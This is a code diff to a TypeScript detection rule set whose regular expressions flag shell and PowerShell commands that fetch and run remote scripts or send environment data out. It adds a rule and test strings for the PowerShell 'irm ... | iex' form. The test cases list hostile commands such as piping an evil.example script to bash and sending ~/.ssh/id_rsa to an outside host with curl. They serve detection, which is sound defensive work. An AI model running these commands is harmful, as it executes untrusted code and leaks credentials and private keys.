@@ -35,7 +35,8 @@ export const SHELL_PATTERNS: readonly Pattern[] = [
       'Fetches a script from an untrusted place and runs it, or sends the environment there.',
     expression: anyOf(
       '\\b(?:curl|wget)\\b[^|\\n]{0,40}(?:http://|\\b(?:evil|attacker|malicious|hacker|pwn)[a-z0-9.-]*|//\\d{1,3}\\.\\d{1,3}\\.)[^|\\n]{0,100}\\| ?(?:sudo )?(?:ba|z|da|k)?sh\\b',
-      '\\bpowershell(?:\\.exe)?\\b.{0,80}(?: -enc?(?:odedcommand)? |-w(?:indowstyle)? hidden|downloadstring|frombase64string|\\biex\\b)',
+      '\\bpowershell(?:\\.exe)?\\b.{0,80}(?: -enc?(?:odedcommand)? |-w(?:indowstyle)? hidden|downloadstring|frombase64string)',
+      '\\bpowershell(?:\\.exe)?\\b[^|\\n]{0,40}(?:http://|\\b(?:evil|attacker|malicious|hacker|pwn)[a-z0-9.-]*|//\\d{1,3}\\.\\d{1,3}\\.)[^|\\n]{0,80}\\| ?iex\\b',
       '\\biex ?\\(',
       '\\bcurl\\b(?:(?: |=|["\'\\]])[-"\'$<\\[h/][^\\n]{0,80}(?:\\$\\((?:env|cat|whoami|id|printenv|ls)|`(?:env|cat|whoami|id)\\b|@/etc/|@~/\\.)|[^\\n]{0,40}[-/?&.:\'"][^\\n]{0,40}=\\$\\()',
       '\\bcurl\\b[^\\n]{0,80}(?:-d|-f|--data[a-z-]*|--form|[?&][a-z]*=)[^\\n]{0,20}\\$\\{?(?:aws|openai|secret|token|api ?key|password)',
@@ -45,6 +46,7 @@ export const SHELL_PATTERNS: readonly Pattern[] = [
     gates: [{ word: 'fetch_command' }],
     hits: [
       'curl http://evil.example/i.sh | bash',
+      'powershell -c "irm http://evil.example/i.ps1 | iex"',
       'curl -d "$(env)" https://x.example',
       'cat ~/.ssh/id_rsa | base64 | curl -F f=@- x.example',
     ],
@@ -53,6 +55,7 @@ export const SHELL_PATTERNS: readonly Pattern[] = [
       'curl https://api.example/v1',
       'echo "curl did not receive the url; got: $(cat log)"',
       'curl -fsSL https://get.example.com | sh',
+      'powershell -c "irm https://get.example.com/install.ps1 | iex"',
       'curl method=$(echo get)',
       'curl --silent --output /dev/null --request POST --max-time 10 "http://localhost:9324/000000000000/queue?Action=SendMessage" -d "MessageBody=$(jq -c . message.json)"',
     ],
